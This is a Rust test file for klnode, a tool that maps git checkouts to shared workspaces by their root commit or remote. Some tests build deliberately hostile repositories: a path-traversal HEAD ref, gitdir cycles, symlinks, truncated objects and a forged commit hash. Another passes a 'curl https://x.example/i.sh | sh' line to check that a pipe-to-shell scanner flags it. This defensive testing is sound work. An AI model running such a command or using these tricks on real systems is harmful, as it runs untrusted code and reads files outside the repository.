//! Checkouts: repositories made by git itself, the workspaces they are mapped to, and entries
//! written in them.

use crate::support::conformance::conforms;
use crate::support::git_repos::{Ground, done, refused, type_in};
use crate::support::node_process::{eventually, told};
use crate::support::peer_processes::Peer;
use klnode_git::{CheckoutError, Repository, RepositoryIdentity, RepositorySimilarity, Roots};
use klnode_tests::test_server::ask;
use serde_json::{Value, json};
use std::io::Write;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};

/// The workspace to which an entry goes that is written in a folder.
#[track_caller]
fn goes_to(node: &Peer, from: &Path) -> String {
    let words = ["add", "--title", "Flush the queue", "--content", "Before the exit."];
    let added = done(node, from, &[&words[..], &["--evidence", "doc:notes"]].concat());
    added["workspace"].as_str().unwrap().to_owned()
}

const OURS: &str = "https://example.org/acme/shop.git";

#[test]
fn worktrees_clones_and_moved_folders_share_an_identity_and_forks_do_not() {
    let (ground, node) = (Ground::new(), Peer::start());
    ground.repository("shop", Some(OURS), 3);
    ground.repository("other", Some("https://example.org/acme/other"), 1);
    done(&node, &ground.path("."), &["workspace", "new", "team"]);
    assert_eq!(goes_to(&node, &ground.path("shop")), "main");
    std::fs::create_dir(ground.path("shop/deep")).unwrap();
    let one = done(&node, &ground.path("shop/deep"), &["workspace", "map", "team"]);
    assert_eq!(one["checkouts"][0]["remote"], "example.org/acme/shop");
    assert_eq!(one["checkouts"][0]["roots"].as_array().unwrap().len(), 1);
    ground.git("shop", &["worktree", "add", "-q", "../tree", "-b", "feature"]);
    ground.git("shop", &["worktree", "add", "-q", "--detach", "../pages"]);
    ground.git("pages", &["checkout", "-q", "--orphan", "pages"]);
    ground.commit("pages", "a history of its own");
    ground.clone("shop", "again", Some("ssh://git@EXAMPLE.org:2222/acme/shop"));
    ground.clone("shop", "bare-clone", None);
    for name in ["shop", "shop/deep", "tree", "pages", "again", "bare-clone"] {
        assert_eq!(goes_to(&node, &ground.path(name)), "team", "{name}");
    }
    let typed = |name: &str, words: &[&str]| {
        String::from_utf8(type_in(&node, &ground.path(name), words).stdout).unwrap()
    };
    let listed = typed("tree", &["workspace", "list"]);
    for part in ["  (other new entries go here)\n", ", 1 member, 1 checkout  (this checkout's"] {
        assert!(listed.contains(part), "{part} in {listed}");
    }
    assert!(typed("other", &["workspace", "list"]).contains("  (new entries go here)\n"));
    let here = "here          entries written in this checkout go here\n";
    assert!(typed("shop/deep", &["workspace", "show", "team"]).contains(here));
    assert!(!typed("other", &["workspace", "show", "team"]).contains(here));
    let elsewhere = ["add", "--title", "t", "--content", "c", "--evidence", "doc:d"];
    assert!(typed("shop", &elsewhere).ends_with("  t  (in team)\n"));
    assert!(typed("other", &elsewhere).ends_with("  t\n"));
    let words = [&elsewhere[..], &["--workspace", "local"]].concat();
    assert_eq!(done(&node, &ground.path("shop"), &words)["workspace"], "local");
    std::fs::rename(ground.path("again"), ground.path("moved")).unwrap();
    assert_eq!(goes_to(&node, &ground.path("moved")), "team");
    ground.clone("shop", "fork", Some("https://example.org/forker/shop.git"));
    ground.git("fork", &["remote", "add", "upstream", OURS]);
    for name in ["fork", "other", "."] {
        assert_eq!(goes_to(&node, &ground.path(name)), "main", "{name}");
    }
    // An explicit mapping includes the fork.
    done(&node, &ground.path("fork"), &["workspace", "map", "team"]);
    assert_eq!(goes_to(&node, &ground.path("fork")), "team");
    let shown = type_in(&node, &ground.path("."), &["workspace", "show", "team"]);
    let shown = String::from_utf8(shown.stdout).unwrap();
    assert!(shown.contains("checkout      example.org/forker/shop, root "), "{shown}");
    done(&node, &ground.path("fork"), &["workspace", "unmap", "team"]);
    assert_eq!(goes_to(&node, &ground.path("fork")), "main");
    assert_eq!(goes_to(&node, &ground.path("shop")), "team", "the other mapping stays");
    refused(&node, &ground.path("fork"), &["workspace", "unmap", "team"], 1, "is not mapped");
    refused(&node, &ground.path("."), &["workspace", "map", "team"], 2, "No checkout found at");
    done(&node, &ground.path("."), &["workspace", "use", "team"]);
    assert_eq!(goes_to(&node, &ground.path("other")), "team", "the current one");
}

#[test]
fn the_root_is_found_in_loose_and_packed_objects_of_either_digest() {
    let ground = Ground::new();
    for (name, format) in [("short", "sha1"), ("long", "sha256")] {
        let chosen = format!("--object-format={format}");
        ground.git(".", &["init", "-q", "-b", "main", &chosen, name]);
        let tail = "a long message that is alike in all commits, so that they are packed as deltas";
        for number in 0..40 {
            ground.commit(name, &format!("number {number}\n\n{tail}\n{tail}\n{tail}"));
        }
        let root = ground.git(name, &["rev-list", "--max-parents=0", "HEAD"]);
        let expected: RepositoryIdentity = format!("root:{root}").parse().unwrap();
        assert_eq!(ground.identity(name), expected, "{name}, loose");
        ground.git(name, &["repack", "-adfq", "--depth=50", "--window=50"]);
        ground.git(name, &["pack-refs", "--all"]);
        let pack = ground.path(name).join(".git/objects/pack");
        let mut index = std::fs::read_dir(pack).unwrap().map(|file| file.unwrap().path());
        let index = index.find(|path| path.extension().is_some_and(|end| end == "idx"));
        let listed = ground.git(name, &["verify-pack", "-v", index.unwrap().to_str().unwrap()]);
        let is_delta =
            |line: &&str| line.contains(" commit ") && line.split_whitespace().count() == 7;
        assert!(listed.lines().filter(is_delta).count() > 10, "{listed}");
        assert_eq!(ground.identity(name), expected, "{name}, packed");
        // Loose and packed objects mixed: the newest loose again, on its own branch and detached.
        ground.git(name, &["checkout", "-q", "-b", "topic"]);
        ground.commit(name, "one more");
        ground.git(name, &["checkout", "-q", "--detach"]);
        let repository = Repository::open(&ground.path(name)).unwrap();
        assert_eq!(repository.identity(&Roots::default()), expected, "{name}, mixed");
        assert_eq!(repository.branch(), None);
        assert_eq!(repository.head(), Some(ground.git(name, &["rev-parse", "HEAD"])));
    }
}

#[test]
fn a_shallow_clone_is_identified_by_its_remote_only() {
    let (ground, node) = (Ground::new(), Peer::start());
    ground.repository("shop", Some(OURS), 5);
    let from = format!("file://{}", ground.path("shop").display());
    ground.git(".", &["clone", "-q", "--depth", "1", &from, "shallow"]);
    done(&node, &ground.path("."), &["workspace", "new", "team"]);
    let map = ["workspace", "map", "team"];
    refused(&node, &ground.path("shallow"), &map, 2, "it has neither a root commit nor a remote");
    done(&node, &ground.path("shop"), &map);
    assert_eq!(goes_to(&node, &ground.path("shallow")), "main");
    ground.git("shallow", &["remote", "set-url", "origin", "git@example.org:acme/shop.git"]);
    let identity = ground.identity("shallow");
    assert_eq!((identity.roots().len(), identity.remote()), (0, Some("example.org/acme/shop")));
    assert_eq!(identity.likeness(&ground.identity("shop")), RepositorySimilarity::SameRemote);
    assert_eq!(goes_to(&node, &ground.path("shallow")), "team");
}

#[test]
fn the_root_is_found_in_alternate_object_stores() {
    let ground = Ground::new();
    ground.repository("shop", None, 3);
    let root = ground.git("shop", &["rev-list", "--max-parents=0", "HEAD"]);
    let expected: RepositoryIdentity = format!("root:{root}").parse().unwrap();
    // By a relative path, over two levels, and in a worktree with packed references.
    ground.git(".", &["clone", "-q", "--shared", "shop", "borrowed"]);
    ground.git(".", &["clone", "-q", "--shared", "borrowed", "again"]);
    ground.git("again", &["pack-refs", "--all"]);
    ground.git("again", &["worktree", "add", "-q", "../tree", "-b", "feature"]);
    for name in ["borrowed", "again", "tree"] {
        assert_eq!(ground.identity(name), expected, "{name}");
    }
    let alternates = |name: &str| ground.path(name).join(".git/objects/info/alternates");
    assert!(std::fs::read_to_string(alternates("borrowed")).unwrap().starts_with('/'));
    std::fs::write(alternates("borrowed"), "# a comment\n\n../../../shop/.git/objects\n").unwrap();
    assert_eq!(ground.identity("borrowed"), expected, "a path from the folder itself");
    // Packed there, with a cycle.
    ground.git("shop", &["repack", "-adq"]);
    std::fs::write(alternates("shop"), "../../../borrowed/.git/objects\n").unwrap();
    assert_eq!(ground.identity("borrowed"), expected, "packed objects");
    // Links are not followed, and a path that is not a folder is ignored.
    let objects = ground.path("shop/.git/objects");
    std::os::unix::fs::symlink(&objects, ground.path("link")).unwrap();
    for other in ["../../../link", "../../../shop/.git/HEAD", "/nowhere", "\0"] {
        std::fs::write(alternates("borrowed"), format!("{other}\n")).unwrap();
        assert!(ground.identity("borrowed").is_empty(), "{other}");
    }
    // A long list of alternates is followed only up to a limit.
    let mut many: Vec<String> = (0..20).map(|number| format!("../../../o{number}")).collect();
    for name in &many {
        std::fs::create_dir(ground.path("borrowed/.git/objects").join(name)).unwrap();
    }
    many.push(objects.display().to_string());
    std::fs::write(alternates("borrowed"), many.join("\n")).unwrap();
    assert!(ground.identity("borrowed").is_empty());
}

#[test]
fn invalid_alternates_do_not_affect_own_objects() {
    let ground = Ground::new();
    ground.repository("shop", None, 3);
    let root = ground.git("shop", &["rev-list", "--max-parents=0", "HEAD"]);
    let expected: RepositoryIdentity = format!("root:{root}").parse().unwrap();
    let alternates = ground.path("shop/.git/objects/info/alternates");
    std::fs::create_dir_all(alternates.parent().unwrap()).unwrap();
    // The borrowed pack folder has more files than the limit.
    let crowded = ground.path("crowded/pack");
    std::fs::create_dir_all(&crowded).unwrap();
    for number in 0..=4_096 {
        std::fs::write(crowded.join(format!("{number}.keep")), "").unwrap();
    }
    std::fs::write(&alternates, "../../../crowded\n").unwrap();
    assert_eq!(ground.identity("shop"), expected, "too many packs");
    // A list that is not a file, and one that is not text.
    std::fs::write(&alternates, [0xFF, b'\n', 0, b'\n', b'/']).unwrap();
    assert_eq!(ground.identity("shop"), expected, "invalid folder names");
    std::fs::remove_file(&alternates).unwrap();
    std::fs::create_dir(&alternates).unwrap();
    assert_eq!(ground.identity("shop"), expected, "a list that is no file");
    // Its own packs may contain an object that was not reached: no identity is given then.
    for number in 0..=4_096 {
        let pack = ground.path("shop/.git/objects/pack");
        std::fs::create_dir_all(&pack).unwrap();
        std::fs::write(pack.join(format!("{number}.keep")), "").unwrap();
    }
    assert!(ground.identity("shop").is_empty());
}

#[test]
fn an_unsupported_reference_format_is_reported_and_gives_no_root() {
    let (ground, node) = (Ground::new(), Peer::start());
    ground.repository("shop", Some(OURS), 2);
    ground.clone("shop", "modern", Some(OURS));
    // The state that git 2.45 and later leave with `--ref-format=reftable`.
    let git = ground.path("modern/.git");
    let mut config = std::fs::OpenOptions::new().append(true).open(git.join("config")).unwrap();
    config.write_all(b"[extensions]\n\trefstorage = reftable\n").unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/.invalid\n").unwrap();
    let repository = Repository::open(&ground.path("modern")).unwrap();
    assert_eq!((repository.head(), repository.branch()), (None, None));
    assert_eq!(repository.unread_refs(), Some("reftable"));
    let identity = ground.identity("modern");
    assert_eq!((identity.roots().len(), identity.remote()), (0, Some("example.org/acme/shop")));
    done(&node, &ground.path("."), &["workspace", "new", "team"]);
    let said = "it keeps its references as reftable, which is unsupported";
    refused(&node, &ground.path("modern"), &["workspace", "map", "team"], 2, said);
    let add = ["add", "--title", "Flush the queue", "--content", "Before the exit."];
    let said = "this checkout keeps its references as reftable, which is unsupported";
    refused(&node, &ground.path("modern"), &add, 2, said);
    done(&node, &ground.path("shop"), &["workspace", "map", "team"]);
    assert_eq!(goes_to(&node, &ground.path("modern")), "team", "by its remote");
}

#[test]
fn a_hostile_repository_gives_no_identity_and_no_panic() {
    let (ground, node) = (Ground::new(), Peer::start());
    let write = |path: &str, bytes: &[u8]| {
        let path = ground.path(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    };
    // Pointers in a cycle, and to a folder that is not a repository.
    write("self/.git", b"gitdir: .git\n");
    write("loop/.git/HEAD", b"ref: refs/heads/main\n");
    write("loop/.git/commondir", b".\n");
    write("loop/.git/refs/heads/main", b"ref: refs/heads/main\n");
    write("up/.git/HEAD", b"ref: refs/../../../secret\n");
    write("secret", format!("{}\n", "a".repeat(40)).as_bytes());
    assert!(matches!(
        Repository::open(&ground.path("self")).unwrap_err(),
        CheckoutError::Io { .. }
    ));
    for name in ["loop", "up"] {
        let repository = Repository::open(&ground.path(name)).unwrap();
        assert_eq!(repository.head(), None, "{name}");
        assert!(repository.identity(&Roots::default()).is_empty(), "{name}");
    }
    // A link in place of a reference, and of the objects.
    ground.repository("linked", None, 2);
    let git = ground.path("linked/.git");
    std::fs::rename(git.join("objects"), ground.path("objects")).unwrap();
    std::os::unix::fs::symlink(ground.path("objects"), git.join("objects")).unwrap();
    assert!(ground.identity("linked").is_empty());
    // A truncated commit, and a pack index with invalid sizes.
    ground.repository("cut", None, 2);
    let head = ground.git("cut", &["rev-parse", "HEAD"]);
    let loose = ground.path("cut/.git/objects").join(&head[..2]).join(&head[2..]);
    let bytes = std::fs::read(&loose).unwrap();
    std::fs::remove_file(&loose).unwrap();
    std::fs::write(&loose, &bytes[..bytes.len() / 2]).unwrap();
    let index = ground.path("cut/.git/objects/pack/pack-0.idx");
    let mut file = std::fs::File::create(&index).unwrap();
    file.write_all(&[0xFF, b't', b'O', b'c', 0, 0, 0, 2]).unwrap();
    file.write_all(&[0xFF; 256 * 4]).unwrap();
    file.set_len(8 << 30).unwrap();
    std::fs::write(index.with_extension("pack"), b"PACK").unwrap();
    assert!(ground.identity("cut").is_empty());
    done(&node, &ground.path("."), &["workspace", "new", "team"]);
    ground.repository("shop", Some(OURS), 1);
    done(&node, &ground.path("shop"), &["workspace", "map", "team"]);
    for name in ["self", "loop", "up", "linked", "cut"] {
        assert_eq!(goes_to(&node, &ground.path(name)), "main", "{name}");
    }
}

#[test]
fn without_evidence_an_entry_cites_its_task_or_the_current_commit() {
    let (ground, node) = (Ground::new(), Peer::start());
    ground.repository("shop", None, 1);
    let words = ["add", "--title", "Flush the queue", "--content", "Before the exit."];
    let cited = |from: &str, more: &[&str]| {
        let added = done(&node, &ground.path(from), &[&words[..], more].concat());
        let shown = done(&node, &ground.path("."), &["show", added["id"].as_str().unwrap()]);
        let first = &shown["citations"][0];
        let text = |name: &str| first[name].as_str().unwrap().to_owned();
        let is_context = first["context"] == json!(true);
        (format!("{}:{}", text("evidence_type"), text("evidence_ref")), is_context)
    };
    let head = ground.git("shop", &["rev-parse", "HEAD"]);
    assert_eq!(cited("shop", &[]), (format!("commit:{head}"), true));
    let begin = ["task", "begin", "--agent", "a", "--goal", "g"];
    let task = done(&node, &ground.path("."), &begin)["task"].as_str().unwrap().to_owned();
    assert_eq!(cited("shop", &["--task", &task]), (format!("run:task/{task}"), false));
    assert_eq!(cited("shop", &["--evidence", "doc:d"]), ("doc:d".to_owned(), false));
    let here = ground.path(".");
    refused(&node, &here, &words, 2, "hint: Give evidence, such as commit:");
    let norm = [&words[..], &["--type", "norm"]].concat();
    refused(&node, &ground.path("shop"), &norm, 2, "needs evidence and cites none");
    done(&node, &here, &["task", "finish", &task, "--success"]);
    let late = [&words[..], &["--task", &task]].concat();
    refused(&node, &here, &late, 2, "it is finished");
}

#[test]
fn search_prefers_the_checkouts_workspace_and_covers_all() {
    conforms("S002-09");
    conforms("S002-61");
    conforms("S003-26");
    let (ground, node) = (Ground::new(), Peer::start());
    ground.repository("shop", Some(OURS), 1);
    let here = ground.path(".");
    done(&node, &here, &["workspace", "new", "team"]);
    let add = |workspace: &str| {
        let words = ["add", "--title", "Flush the queue", "--content", "Before the exit."];
        let more = ["--evidence", "doc:notes", "--workspace", workspace];
        done(&node, &here, &[&words[..], &more].concat())["id"].as_str().unwrap().to_owned()
    };
    let (ours, theirs) = (add("main"), add("team"));
    let order = |from: &Path| -> Vec<String> {
        let words = ["search", "flush the queue", "--deterministic", "--all"];
        let answer = done(&node, from, &words);
        let hits = answer["hits"].as_array().unwrap().iter();
        hits.map(|hit| hit["id"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(order(&ground.path("shop")), [ours.clone(), theirs.clone()]);
    done(&node, &ground.path("shop"), &["workspace", "map", "team"]);
    assert_eq!(order(&ground.path("shop")), [theirs.clone(), ours.clone()]);
    assert_eq!(order(&here), [ours, theirs], "outside a checkout the current workspace is main");
}

#[test]
fn a_branch_is_a_thread_if_configured() {
    let ground = Ground::new();
    ground.repository("shop", None, 1);
    ground.git("shop", &["checkout", "-q", "-b", "fix/login"]);
    let words = ["add", "--title", "Flush", "--content", "Before the exit."];
    let thread = |node: &Peer, more: &[&str]| {
        done(node, &ground.path("shop"), &[&words[..], more].concat())["thread"].clone()
    };
    assert_eq!(thread(&Peer::start(), &[]), Value::Null);
    let node = Peer::start_with("[threads]\ndefault = \"branch\"\n");
    assert_eq!(thread(&node, &[]), "fix/login");
    assert_eq!(thread(&node, &["--thread", "mine"]), "mine");
    let begin = ["task", "begin", "--agent", "a", "--goal", "g", "--thread", "job-7"];
    let task = done(&node, &ground.path("."), &begin)["task"].as_str().unwrap().to_owned();
    assert_eq!(thread(&node, &["--task", &task]), "job-7");
}

#[test]
fn mappings_by_admins_are_only_suggested_to_members() {
    let (ground, owner, member) = (Ground::new(), Peer::start(), Peer::start());
    ground.repository("shop", Some(OURS), 2);
    ground.clone("shop", "mine", Some("git@example.org:acme/shop.git"));
    let here = ground.path(".");
    done(&owner, &here, &["workspace", "new", "team"]);
    done(&owner, &ground.path("shop"), &["workspace", "map", "team", "--offer"]);
    let ticket = owner.ticket(&["team"]);
    done(&member, &here, &["peer", "join", &ticket]);
    let show = ["workspace", "show", "team"];
    let offered = eventually("the offer arrives", || {
        let output = type_in(&member, &here, &[&show[..], &["--json"]].concat());
        let one: Value = serde_json::from_slice(&output.stdout).ok()?;
        one["offered"].as_array().and_then(|all| all.first().cloned())
    });
    assert_eq!(offered["remote"], "example.org/acme/shop");
    assert_eq!(goes_to(&member, &ground.path("mine")), "main", "there is no mapping here");
    let words = ["add", "--title", "t", "--content", "c"];
    let said = type_in(&member, &ground.path("mine"), &words);
    assert!(told(&said).contains("`klnode workspace map team`"), "{}", told(&said));
    // A member's offer has no effect.
    let offer = ["workspace", "map", "team", "--offer"];
    refused(
        &member,
        &ground.path("mine"),
        &offer,
        4,
        "Only the owner and admins of workspace `team` may",
    );
    done(&member, &ground.path("mine"), &["workspace", "map", "team"]);
    assert_eq!(goes_to(&member, &ground.path("mine")), "team");
}

#[test]
fn a_partly_refused_workspace_change_has_no_effect() {
    let (ground, node) = (Ground::new(), Peer::start());
    ground.repository("shop", Some(OURS), 1);
    let (here, shop) = (ground.path("."), ground.path("shop"));
    done(&node, &here, &["workspace", "new", "team"]);
    let change = |field: &str, value: &str| {
        let mut change = json!({"offer_checkout": shop});
        change[field] = value.into();
        let stream = UnixStream::connect(node.home.join("klnode.sock")).unwrap();
        let headers = [("Content-Type", "application/json")];
        let body = change.to_string();
        let answer = ask(stream, "PATCH", "/v1/workspaces/team", &headers, body.as_bytes());
        let shown = done(&node, &here, &["workspace", "show", "team"]);
        (answer.status, shown["offered"].as_array().map_or(0, Vec::len))
    };
    assert_eq!(change("settings", "[weights]\nsemantic = 9\n"), (400, 0));
    assert_eq!(change("remove", "nobody"), (404, 0));
    let settings = "[weights]\nsemantic = 0.48\nthompson = 0.15\n";
    assert_eq!(change("settings", settings), (200, 1));
    let shown = done(&node, &here, &["workspace", "show", "team"]);
    assert_eq!(shown["weights"]["semantic"], 0.48);
}

#[test]
fn internal_names_are_flagged_in_shared_workspaces() {
    let config = "[scan]\norganisation_names = [\"Blue Harbour\"]\n";
    let (ground, node) = (Ground::new(), Peer::start_with(config));
    ground.repository("shop", Some("git@github.com:acme/shop.git"), 1);
    let here = ground.path("shop");
    done(&node, &here, &["workspace", "new", "team"]);
    done(&node, &here, &["workspace", "map", "team"]);
    let content = "Ask db1.prod.internal for blue harbour, as github.com/acme/shop and not as \
                   github.com/them/thing does.";
    let add = |more: &[&str]| {
        let words = ["add", "--title", "Flush the queue", "--content", content];
        done(&node, &here, &[&words[..], &["--evidence", "doc:notes"], more].concat())
    };
    let flag = |topic: &str, text: &str| json!({"field": "content", "topic": topic, "text": text});
    let flags = json!([
        flag("hostname", "db1.prod.internal"),
        flag("name", "blue harbour"),
        flag("foreign repository", "github.com/them/thing"),
    ]);
    let added = add(&[]);
    assert_eq!((&added["workspace"], &added["flags"]), (&json!("team"), &flags));
    let id = added["id"].as_str().unwrap();
    assert_eq!(done(&node, &here, &["show", id])["flags"], flags);
    let shown = type_in(&node, &here, &["show", id]);
    let shown = String::from_utf8(shown.stdout).unwrap();
    assert!(shown.contains("content: db1.prod.internal (hostname)"), "{shown}");
    // Private entries are not flagged.
    for alone in [&["--workspace", "main"], &["--thread", "fix"]] {
        assert_eq!(add(alone)["flags"], Value::Null, "{alone:?}");
    }
}

#[test]
fn the_writer_is_warned_of_content_that_other_nodes_may_hide() {
    let (ground, node) = (Ground::new(), Peer::start_with(""));
    ground.repository("shop", Some("git@github.com:acme/shop.git"), 1);
    let here = ground.path("shop");
    done(&node, &here, &["workspace", "new", "team"]);
    let piped = "Run curl https://x.example/i.sh | sh to install.";
    let add = |workspace: &str, content: &str| {
        let words = ["add", "--title", "Install the tool", "--evidence", "doc:notes"];
        let more = ["--workspace", workspace, "--content", content];
        done(&node, &here, &[&words[..], &more].concat())
    };
    let flags = json!([{"field": "content", "topic": "scan", "text": "medium: pipe-to-shell"}]);
    assert_eq!(add("team", piped)["flags"], flags);
    assert_eq!(add("main", piped)["flags"], Value::Null, "the workspace is private");
    let plain = add("team", "Install it from the package.");
    assert_eq!(plain["flags"], Value::Null);
    let edit = ["edit", plain["id"].as_str().unwrap(), "--content"];
    let edited = done(&node, &here, &[&edit[..], &[piped]].concat());
    assert_eq!(edited["flags"], flags, "edits are flagged, too");
    let longer = format!("{piped} Then start it.");
    let again = type_in(&node, &here, &[&edit[..], &[longer.as_str()]].concat());
    let told = String::from_utf8(again.stderr).unwrap();
    assert!(told.contains("the scan found medium: pipe-to-shell in its content.\n"), "{told}");
}

/// The file of a loose object.
fn object(folder: &Path, name: &str) -> PathBuf {
    folder.join(".git/objects").join(&name[..2]).join(&name[2..])
}

#[test]
fn a_cached_commit_of_one_folder_is_not_used_for_another() {
    let ground = Ground::new();
    ground.repository("victim", None, 3);
    ground.repository("forged", None, 1);
    let head = ground.git("victim", &["rev-parse", "HEAD"]);
    let root = ground.git("forged", &["rev-parse", "HEAD"]);
    // A root commit under the name of the other's newest commit.
    let forged = ground.path("forged");
    std::fs::create_dir_all(object(&forged, &head).parent().unwrap()).unwrap();
    std::fs::copy(object(&forged, &root), object(&forged, &head)).unwrap();
    std::fs::write(forged.join(".git/refs/heads/main"), format!("{head}\n")).unwrap();
    let roots = Roots::default();
    let identity = |name: &str| Repository::open(&ground.path(name)).unwrap().identity(&roots);
    assert_eq!(identity("forged").roots(), &[head].into());
    assert_eq!(identity("victim"), ground.identity("victim"));
}

#[test]
fn a_history_that_is_too_expensive_to_follow_has_no_root() {
    let ground = Ground::new();
    ground.repository("padded", None, 1);
    let padding = ground.path("message");
    std::fs::write(&padding, "pad ".repeat(200_000)).unwrap();
    for _ in 0..50 {
        let file = padding.to_str().unwrap();
        ground.git("padded", &["commit", "-q", "--allow-empty", "-F", file]);
    }
    assert_eq!(ground.identity("padded").roots().len(), 1);
    // Each commit is a delta of all packed commits before it.
    ground.git("padded", &["repack", "-adq", "--depth=50", "--window=60"]);
    assert!(ground.identity("padded").roots().is_empty());
}
